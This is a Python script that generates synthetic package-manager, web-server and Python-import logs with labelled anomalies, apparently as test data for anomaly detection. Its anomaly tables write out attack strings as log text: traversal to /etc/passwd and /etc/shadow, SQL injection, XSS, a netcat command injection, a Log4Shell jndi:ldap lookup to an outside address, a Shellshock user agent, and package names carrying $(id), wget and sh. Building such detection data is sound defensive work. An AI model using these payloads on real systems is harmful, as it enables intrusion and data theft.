"""Three logs with labelled anomalies: of a package manager, of a web server, and of Python's imports.

python scripts/make_logs.py FOLDER [--seed 0] [--lines 4000] [--anomalies 20] [--clean]

Of each log NAME (packages, web, imports) it writes
    NAME.train.log     yesterday's lines, without labels; as in practice there are anomalies among them (--clean: none)
    NAME.test.log      today's lines
    NAME.labels        a line for each of today's: 1 for an anomaly, 0 for an ordinary line
    NAME.kinds         the same with the kind of each anomaly, `-` for an ordinary line

Packages and requests are made up; what Python reports about its imports is real (`python -v`, `python -X importtime`).
Today's log has packages, pages and modules that yesterday's does not have: rare, but ordinary. Nothing is downloaded.
The same seed and Python give the same files.
"""

import argparse
import json
import random
import re
import string
import subprocess
import sys
from collections.abc import Callable, Iterator
from datetime import datetime, timedelta
from itertools import islice
from pathlib import Path

START = datetime(2026, 3, 2, 8, 0, 0)
Anomaly = Callable[[random.Random, list[str]], str]  # makes an anomaly from ordinary lines


# ---------------------------------------------------------------------------------------------- a package manager
STEMS = (
    "acl alsa apt atk audit avahi bind blas boost brotli bzip cairo cap cups curl dbus deflate dpkg elf expat ffi fftw "
    "flac font freetype fuse gcc gdbm geoip git glib gmp gnutls gpg gtk harfbuzz hdf icu idn jpeg json kmod krb ldap "
    "lcms lz magic mount mpfr ncurses nettle nghttp nss opus pango pcre perl png pixman postgres proc python qt quota "
    "readline ruby sasl seccomp selinux sensors sqlite ssh ssl sysvinit tcl tiff tinfo udev unistring usb uuid vorbis "
    "wayland webp wrap xcb xkb xml xslt yaml zeromq zstd"
).split()
SUFFIXES = (
    "",
    "",
    "",
    "-dev",
    "-common",
    "-bin",
    "-data",
    "-doc",
    "-utils",
    "-tools",
    "-perl",
    "-gtk",
    "-udeb",
    "-gui",
)


def package_pool(draw: random.Random, count: int) -> list[tuple[str, str, str]]:
    """Return (name, architecture, version) of so many packages."""
    found: dict[str, tuple[str, str, str]] = {}
    while len(found) < count:
        stem, kind = draw.choice(STEMS), draw.random()
        if kind < 0.5:
            name = f"lib{stem}{draw.choice(['', '-' + draw.choice(STEMS)])}{draw.choice(['', *'0123456'])}"
        elif kind < 0.65:
            name = f"python3-{stem}{draw.choice(['', draw.choice(STEMS)])}"
        else:
            name = f"{stem}{draw.choice(['', '-' + draw.choice(STEMS), str(draw.randint(2, 12))])}"
        name += draw.choice(SUFFIXES)
        architecture = "amd64" if draw.random() < 0.7 else "all"
        found[name] = (name, architecture, version(draw))
    return list(found.values())


def version(draw: random.Random) -> str:
    """Return a version as distributions write them."""
    parts = ".".join(str(draw.randint(0, 40)) for _ in range(draw.choice([2, 2, 3, 3, 4])))
    epoch = draw.choice(["", "", "", "", "1:", "2:"])
    addition = draw.choice(["", "", "", f"+dfsg{draw.choice(['', '1', '2'])}", f"+git{draw.randint(2018, 2026)}0811"])
    revision = f"-{draw.randint(1, 9)}" + draw.choice(["", "", "+b1", "+deb12u1", "+deb12u2", "~deb12u1", "ubuntu1"])
    return epoch + parts + addition + revision


def package_log(draw: random.Random, pool: list[tuple[str, str, str]], start: datetime) -> Iterator[str]:
    """Yield the lines of sessions that install, upgrade and remove packages, without an end."""
    now, installed = start, {}
    triggers = [
        ("libc-bin", "amd64", "2.36-9+deb12u10"),
        ("man-db", "amd64", "2.11.2-2"),
        ("dbus", "amd64", "1.14.10-1"),
    ]

    def line(text: str) -> str:
        return f"{now:%Y-%m-%d %H:%M:%S} {text}"

    while True:
        now += timedelta(seconds=draw.expovariate(1 / 4000))
        yield line("startup archives unpack")
        session, trigger = draw.sample(pool, draw.randint(1, 12)), draw.choice(triggers)
        done = []
        for name, architecture, new in session:
            now += timedelta(seconds=draw.random() * 0.8)
            package, old = f"{name}:{architecture}", installed.get(name)
            if old and draw.random() < 0.25:
                yield from map(line, _removal(package, old, draw.random() < 0.4))
                del installed[name]
                continue
            if old:
                new = raised(draw, old)
                yield line(f"upgrade {package} {old} {new}")
                for status in ("half-configured", "unpacked", "half-installed"):
                    yield line(f"status {status} {package} {old}")
            else:
                yield line(f"install {package} <none> {new}")
                yield line(f"status half-installed {package} {new}")
            if draw.random() < 0.1:
                yield line("status triggers-pending {}:{} {}".format(*trigger))
            yield line(f"status unpacked {package} {new}")
            installed[name] = new
            done.append((package, new))
        if not done:
            continue
        yield line("startup packages configure")
        for package, new in done:
            now += timedelta(seconds=draw.random() * 0.5)
            yield line(f"configure {package} {new} <none>")
            if draw.random() < 0.04:
                yield line(f"conffile /etc/{package.split(':')[0]}.conf {draw.choice(['install', 'keep'])}")
            for status in ("unpacked", "half-configured", *(("triggers-awaited",) if draw.random() < 0.03 else ())):
                yield line(f"status {status} {package} {new}")
            yield line(f"status installed {package} {new}")
        if draw.random() < 0.5:
            now += timedelta(seconds=2 * draw.random())
            yield line("trigproc {}:{} {} <none>".format(*trigger))
            yield line("status half-configured {}:{} {}".format(*trigger))
            yield line("status installed {}:{} {}".format(*trigger))


def _removal(package: str, old: str, purge: bool) -> Iterator[str]:
    yield "startup packages remove"
    yield f"status installed {package} {old}"
    yield f"remove {package} {old} <none>"
    for status in ("half-configured", "half-installed", "config-files"):
        yield f"status {status} {package} {old}"
    if purge:
        yield f"purge {package} {old} <none>"
        yield f"status config-files {package} {old}"
        yield f"status not-installed {package} <none>"


def raised(draw: random.Random, old: str) -> str:
    """Return a later version."""
    found = re.search(r"-(\d+)", old)
    head = old[: found.start(1)] if found else old + "-"
    return f"{head}{(int(found[1]) if found else 0) + draw.randint(1, 3)}{draw.choice(['', '+deb12u1', '+b1'])}"


def packages(draw: random.Random, lines: int) -> tuple[list[str], list[str]]:
    """Return yesterday's and today's lines; a quarter of today's packages are new."""
    pool = package_pool(draw, 400)
    yesterday = list(islice(package_log(draw, pool[:300], START), lines))
    return yesterday, list(islice(package_log(draw, pool[100:], START + timedelta(days=60)), lines))


def replaced(pattern: str, *answers: str) -> Anomaly:
    """Return an anomaly: an ordinary line where one of `answers` stands in place of what the pattern finds."""

    def make(draw: random.Random, lines: list[str]) -> str:
        matching = [line for line in lines if re.search(pattern, line)]
        line, answer = draw.choice(matching), draw.choice(answers)
        return re.sub(pattern, lambda found: found.expand(answer), line, count=1)

    return make


PACKAGE_ANOMALIES: dict[str, Anomaly] = {
    "action": replaced(
        r" (install|upgrade|configure|remove|trigproc) ",
        " downgrade ",
        " rollback ",
        " force-remove-essential ",
        " eval ",
        " abort-install ",
        " unlock ",
        " reinstall-unsigned ",
    ),
    "status": replaced(
        r" status [\w-]+ ",
        " status half-removed ",
        " status corrupted ",
        " status reinst-required ",
        " status error ",
        " status unverified ",
        " status aborted ",
    ),
    "injected": replaced(
        r"([\w+.-]+):(amd64|all) ",
        "../../tmp/\\1:\\2 ",
        "\\1;wget:\\2 ",
        "$(id):\\2 ",
        "/dev/shm/.\\1:\\2 ",
        "\\1&&sh:\\2 ",
    ),
    "architecture": replaced(r":(amd64|all) ", ":mips64el ", ":win32 ", ":unknown ", ":<none> "),
    "value": replaced(r"(\S+) <none>$", "<none> <none>", "\\1 (null)", "\\1 -1", "\\1 <error>"),
    "contradiction": replaced(r" (install|remove) (\S+) (\S+) (\S+)$", " \\1 \\2 \\4 \\3"),
    "backwards": replaced(r" upgrade (\S+) (\S+) (\S+)$", " upgrade \\1 \\3 \\2"),
}


# --------------------------------------------------------------------------------------------------- a web server
PAGES = (
    "about account api articles basket blog cart catalog category checkout contact docs download events faq feed forum "
    "gallery help home images jobs legal login logout map media news orders press pricing privacy product profile "
    "projects reports search settings shop status store support team terms topics users video wiki"
).split()
WORDS = (
    "alpine autumn blue bridge bright canvas cedar city cloud coast copper cotton crystal desert dream early eastern "
    "field flower forest garden glass golden green harbor hidden island lake light linen little marble meadow modern "
    "morning mountain night north ocean old orange paper pine quiet rain river rose sand silent silver small snow "
    "south spring stone summer sunny timber valley velvet village western white wild winter wood"
).split()
AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{a}.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{b}.{c} "
    "Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:{a}.0) Gecko/20100101 Firefox/{a}.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS {b}_{c} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/{b}.{c} Mobile/15E148 Safari/604.1",
)
ROBOTS = (
    "Mozilla/5.0 (compatible; ExampleBot/2.1; +http://bot.example/about.html)",
    "monitor/1.4 (uptime check)",
    "FeedReader/3.{c}",
)


def site(draw: random.Random, count: int) -> list[tuple[str, str, int]]:
    """Return (path, kind, bytes) of so many resources."""
    found = []
    for _ in range(count):
        kind, slug = draw.random(), "-".join(draw.sample(WORDS, draw.randint(1, 4)))
        if kind < 0.45:
            path, kind = f"/{draw.choice(PAGES)}/{slug}", "page"
        elif kind < 0.6:
            path, kind = f"/{draw.choice(PAGES)}/{draw.randint(1, 99999)}", "page"
        elif kind < 0.8:
            path = f"/static/{draw.choice(['js', 'css', 'img'])}/{slug}.{draw.getrandbits(32):08x}"
            path, kind = path + draw.choice([".js", ".css", ".png", ".svg", ".woff2"]), "static"
        else:
            path, kind = f"/api/v{draw.randint(1, 2)}/{draw.choice(PAGES)}/{draw.randint(1, 9999)}", "api"
        found.append((path, kind, int(draw.lognormvariate(8.5, 1.2))))
    return found


def web_log(draw: random.Random, resources: list[tuple[str, str, int]], start: datetime) -> Iterator[str]:
    """Yield requests in the combined log format, without an end."""
    now = start
    weights = [1 / (rank + 4) for rank in range(len(resources))]
    visitors = [_visitor(draw) for _ in range(150)]
    while True:
        now += timedelta(seconds=draw.expovariate(1 / 5))
        if draw.random() < 0.05:
            visitors[draw.randrange(len(visitors))] = _visitor(draw)
        address, agent, robot = draw.choice(visitors)
        path, kind, size = draw.choices(resources, weights)[0]
        method, status, referrer = "GET", 200, "-"
        chance = draw.random()
        if kind == "page" and draw.random() < 0.15:
            value = draw.choice([str(draw.randint(1, 30)), draw.choice(WORDS)])
            path += f"?{draw.choice(['page', 'id', 'sort', 'q'])}={value}"
        if kind == "api" and chance < 0.35:
            method, status = draw.choice([("POST", 201), ("POST", 200), ("PUT", 200), ("DELETE", 204)])
            size = 0 if status == 204 else draw.randint(40, 900)
        elif kind == "static" and chance < 0.3:
            status, size = 304, 0
        elif chance < 0.03:
            path, status, size = f"/{draw.choice(PAGES)}/{draw.choice(WORDS)}-{draw.choice(WORDS)}", 404, 153
        elif chance < 0.05:
            status, size = draw.choice([(301, 162), (302, 138)])
        elif chance < 0.053:
            status, size = draw.choice([(500, 177), (503, 190), (403, 146)])
        elif chance < 0.07 and robot:
            path, size = draw.choice([("/robots.txt", 68), ("/sitemap.xml", 9120), ("/favicon.ico", 1150)])
        if not robot and draw.random() < 0.6:
            referrer = "https://www.shop.example" + draw.choices(resources, weights)[0][0]
        protocol = "HTTP/2.0" if draw.random() < 0.7 else "HTTP/1.1"
        yield (
            f'{address} - - [{now:%d/%b/%Y:%H:%M:%S} +0000] "{method} {path} {protocol}" {status} {size} '
            f'"{referrer}" "{agent}"'
        )


def _visitor(draw: random.Random) -> tuple[str, str, bool]:
    robot = draw.random() < 0.15
    agent = draw.choice(ROBOTS if robot else AGENTS).format(
        a=draw.randint(118, 131), b=draw.randint(15, 18), c=draw.randint(0, 6)
    )
    return ".".join(str(draw.randint(1, 254)) for _ in range(4)), agent, robot


def web(draw: random.Random, lines: int) -> tuple[list[str], list[str]]:
    """Return yesterday's and today's lines; some of today's pages are new."""
    resources = site(draw, 500)
    yesterday = list(islice(web_log(draw, resources[:400], START), lines))
    draw.shuffle(resources)
    return yesterday, list(islice(web_log(draw, resources, START + timedelta(days=1)), lines))


_REQUEST = r'"(GET|POST|PUT) (/\S*) '
WEB_ANOMALIES: dict[str, Anomaly] = {
    "traversal": replaced(
        _REQUEST,
        '"GET /static/../../../../etc/passwd ',
        '"GET \\2?file=..%2f..%2f..%2fetc%2fshadow ',
        '"GET /cgi-bin/.%2e/.%2e/bin/sh ',
        '"GET \\2/..;/manager/html ',
    ),
    "injection": replaced(
        _REQUEST,
        "\"GET \\2?id=1'+OR+'1'='1 ",
        '"GET \\2?q=1;DROP+TABLE+users ',
        '"GET \\2?q=<script>alert(1)</script> ',
        '"POST \\2?cmd=cat+/etc/hosts|nc+-e ',
        '"GET \\2?x=${jndi:ldap://203.0.113.9/a} ',
    ),
    "probe": replaced(
        r'"\w+ \S+ (\S+" )\d+',
        '"GET /wp-login.php \\g<1>404',
        '"GET /.env \\g<1>404',
        '"GET /.git/config \\g<1>403',
        '"POST /boaform/admin/formLogin \\g<1>404',
        '"GET /phpmyadmin/index.php \\g<1>404',
        '"GET /actuator/env \\g<1>500',
    ),
    "method": replaced(r'"(GET|POST|PUT) ', '"TRACE ', '"PROPFIND ', '"CONNECT ', '"DEBUG ', '"SSH-2.0 '),
    "agent": replaced(
        r'"[^"]*"$',
        '"sqlmap/1.7.2#stable (https://sqlmap.org)"',
        '"() { :;}; /bin/bash -c id"',
        '"masscan/1.3"',
        '"Nikto/2.5.0"',
        '"zgrab/0.x"',
        '"python-requests/2.31.0"',
    ),
    "binary": replaced(
        r'"\w+ /[^"]*" \d+ \d+', r'"\\x16\\x03\\x01\\x02\\x00\\x01" 400 157', r'"\\x05\\x01\\x00" 400 0'
    ),
    "contradiction": replaced(
        r'" (200|304|201) \d+ ', '" 599 0 ', '" 418 -1 ', '" 200 - ', '" 000 0 ', '" 204 99120847 '
    ),
}


# ------------------------------------------------------------------------------------------------ Python's imports
YESTERDAY = (
    "asyncio email http.server json logging.config unittest xml.dom.minidom decimal csv zipfile tarfile argparse "
    "multiprocessing.pool urllib.request ctypes dataclasses difflib"
).split()
TODAY = (
    "asyncio json logging.config unittest csv ftplib html.parser sqlite3 statistics urllib.request configparser "
    "doctest imaplib mailbox pdb pydoc smtplib turtledemo wsgiref.simple_server xmlrpc.client zoneinfo "
    "concurrent.futures cProfile"
).split()


def import_log(draw: random.Random, modules: list[str], lines: int) -> list[str]:
    """Return what Python reports when it imports modules, in several processes; addresses are drawn by the seed."""
    found: list[str] = []
    while len(found) < lines:
        chosen = draw.sample(modules, draw.randint(3, 8))
        options = ["-v"] if draw.random() < 0.6 else ["-X", "importtime"]
        command = [sys.executable, "-I", "-S", *options, "-c", f"import {', '.join(chosen)}"]
        text = subprocess.run(command, capture_output=True, check=False, stdin=subprocess.DEVNULL).stderr
        base = draw.getrandbits(28)
        address = re.compile(r"0x[0-9a-f]{6,}")
        seen: dict[str, str] = {}
        for line in text.decode("utf-8", "replace").splitlines():
            for old in address.findall(line):
                seen.setdefault(old, f"0x7f{base + (draw.getrandbits(20) << 4):010x}")
            line = address.sub(lambda match, seen=seen: seen[match[0]], line)
            if timed := re.match(r"import time: +\d+ \| +(\d+) \|(.*)", line):
                own = int(draw.lognormvariate(6.5, 1.0))
                line = f"import time: {own:9d} | {own + int(draw.lognormvariate(6.0, 2.0)):10d} |{timed[2]}"
            found.append(line)
    return found[:lines]


def imports(draw: random.Random, lines: int) -> tuple[list[str], list[str]]:
    """Return yesterday's and today's lines; some of today's modules are new."""
    return import_log(draw, YESTERDAY, lines), import_log(draw, TODAY, lines)


IMPORT_ANOMALIES: dict[str, Anomaly] = {
    "place": replaced(
        r"'?/\S+/(\w+/__pycache__/)",
        "/tmp/.cache/\\1",
        "/dev/shm/\\1",
        "/home/guest/Downloads/\\1",
        "//10.0.0.7/share/\\1",
    ),
    "loader": replaced(
        r"<(class '?)?_frozen\S+",
        "<evil_hook.NetworkLoader",
        "<_imp_ext.UnsignedLoader",
        "<zipimport.zipimporter",
        "<__main__.Patched",
    ),
    "failure": replaced(
        r"^import '(\S+)' # .*",
        "Traceback (most recent call last):",
        "ImportError: cannot import name '\\1'",
        "ModuleNotFoundError: No module named '\\1'",
        "# destroy failed for \\1: reference count below zero",
        "RuntimeWarning: compiletime version of module '\\1' does not match runtime",
    ),
    "time": replaced(
        r"import time: +(\d+) \|", "import time: -\\1 |", "import time: NaN |", "import time:   overflow |"
    ),
    "stale": replaced(
        r"^# (\S+) matches (\S+)$", "# \\1 has bad magic in \\2", "# \\1 is stale for \\2", "# \\1 matches <none>"
    ),
    "contradiction": replaced(
        r"^import '(\S+)' # .*", "import '\\1' # builtin frozen", "import '\\1'", "# import \\1 # builtin"
    ),
}


# ----------------------------------------------------------------------------------- anomalies that any log may have
FOREIGN = (
    "Nov 24 03:12:07 host kernel: Out of memory: Killed process 4211 (java)",
    "ERROR could not connect to the database at 10.0.0.7:5432, giving up",
    "Segmentation fault (core dumped)",
    "    at com.example.billing.Invoice.total(Invoice.java:118)",
    "panic: runtime error: index out of range [4] with length 4",
    "No space left on device",
    "<html><head><title>502 Bad Gateway</title></head>",
    "sshd[812]: Failed password for root from 203.0.113.9 port 52144 ssh2",
    "WARN  pool-2-thread-1 heartbeat lost after 30000 ms",
    "disk I/O error on /dev/sda1, sector 88213",
    "Permission denied (publickey).",
    "audit: type=1400 apparmor=DENIED operation=open profile=snap",
)


def foreign(draw: random.Random, lines: list[str]) -> str:
    """Return a line that belongs to another log."""
    line = draw.choice(FOREIGN)
    if draw.random() < 0.3:
        record = {"level": "error", "code": draw.randint(1, 99), "message": line[:30]}
        return json.dumps(record)
    return line


def truncated(draw: random.Random, lines: list[str]) -> str:
    """Return an ordinary line that ends too early."""
    line = draw.choice([line for line in lines if len(line) > 30])
    return line[: draw.randint(len(line) // 5, 7 * len(line) // 10)].rstrip() or line[:10]


def swapped(draw: random.Random, lines: list[str]) -> str:
    """Return an ordinary line where two different fields are exchanged."""
    fields = draw.choice([line for line in lines if len(line.split()) > 3]).split()
    while True:
        one, other = draw.sample(range(len(fields)), 2)
        if len(fields[one]) != len(fields[other]):
            fields[one], fields[other] = fields[other], fields[one]
            return " ".join(fields)


def missing(draw: random.Random, lines: list[str]) -> str:
    """Return an ordinary line without one or two of its fields."""
    fields = draw.choice([line for line in lines if len(line.split()) > 4]).split()
    at = draw.randrange(len(fields) - 2)
    return " ".join(fields[:at] + fields[at + draw.randint(1, 2) :])


def merged(draw: random.Random, lines: list[str]) -> str:
    """Return two ordinary lines whose writers got in each other's way."""
    one, other = draw.sample(lines, 2)
    return one[: draw.randint(len(one) // 3, len(one))] + other[draw.randint(0, len(other) // 3) :]


def garbled(draw: random.Random, lines: list[str]) -> str:
    """Return an ordinary line with a few wrong bytes."""
    line = list(draw.choice([line for line in lines if len(line) > 20]))
    for _ in range(draw.randint(2, 5)):
        line[draw.randrange(len(line))] = draw.choice(string.punctuation + "\x00\x01\x1b\x7f\ufffd")
    return "".join(line)


COMMON: dict[str, Anomaly] = {
    "foreign": foreign,
    "truncated": truncated,
    "swapped": swapped,
    "missing": missing,
    "merged": merged,
    "garbled": garbled,
}
LOGS = {
    "packages": (packages, PACKAGE_ANOMALIES),
    "web": (web, WEB_ANOMALIES),
    "imports": (imports, IMPORT_ANOMALIES),
}


def with_anomalies(
    draw: random.Random, lines: list[str], kinds: dict[str, Anomaly], count: int
) -> tuple[list[str], list[str]]:
    """Return the lines with so many anomalies among them, of all kinds in turn, and each line's kind (`-`: none)."""
    kinds = kinds | COMMON
    known, found = set(lines), []
    order: list[str] = []
    while len(found) < count:
        order = order or draw.sample(list(kinds), len(kinds))
        kind = order.pop()
        anomaly = kinds[kind](draw, lines)
        if anomaly not in known:
            found.append((anomaly, kind))
    positions = sorted(draw.sample(range(len(lines)), len(found)), reverse=True)
    lines, labels = list(lines), ["-"] * len(lines)
    for position, (anomaly, kind) in zip(positions, found, strict=True):
        lines.insert(position, anomaly)
        labels.insert(position, kind)
    return lines, labels


def make(name: str, seed: int, lines: int = 4000, anomalies: int = 20, clean: bool = False) -> dict[str, list[str]]:
    """Return a log's files: the lines of each by the end of its name."""
    draw = random.Random(f"{name} {seed}")
    log, kinds = LOGS[name]
    train, test = log(draw, lines)
    train, _ = with_anomalies(draw, train, kinds, 0 if clean else anomalies)
    test, found = with_anomalies(draw, test, kinds, anomalies)
    return {"train.log": train, "test.log": test, "labels": [str(int(kind != "-")) for kind in found], "kinds": found}


def write(folder: Path, name: str, files: dict[str, list[str]]) -> None:
    """Write a log's files into a folder."""
    folder.mkdir(parents=True, exist_ok=True)
    for end, lines in files.items():
        with (folder / f"{name}.{end}").open("w", encoding="utf-8", newline="\n") as file:
            file.writelines(f"{line}\n" for line in lines)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("folder", type=Path)
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--lines", type=int, default=4000, help="ordinary lines of each log")
    parser.add_argument("--anomalies", type=int, default=20, help="anomalies in each log")
    parser.add_argument("--clean", action="store_true", help="no anomalies in the logs to train on")
    options = parser.parse_args()
    for name in LOGS:
        write(options.folder, name, make(name, options.seed, options.lines, options.anomalies, options.clean))


if __name__ == "__main__":
    main()
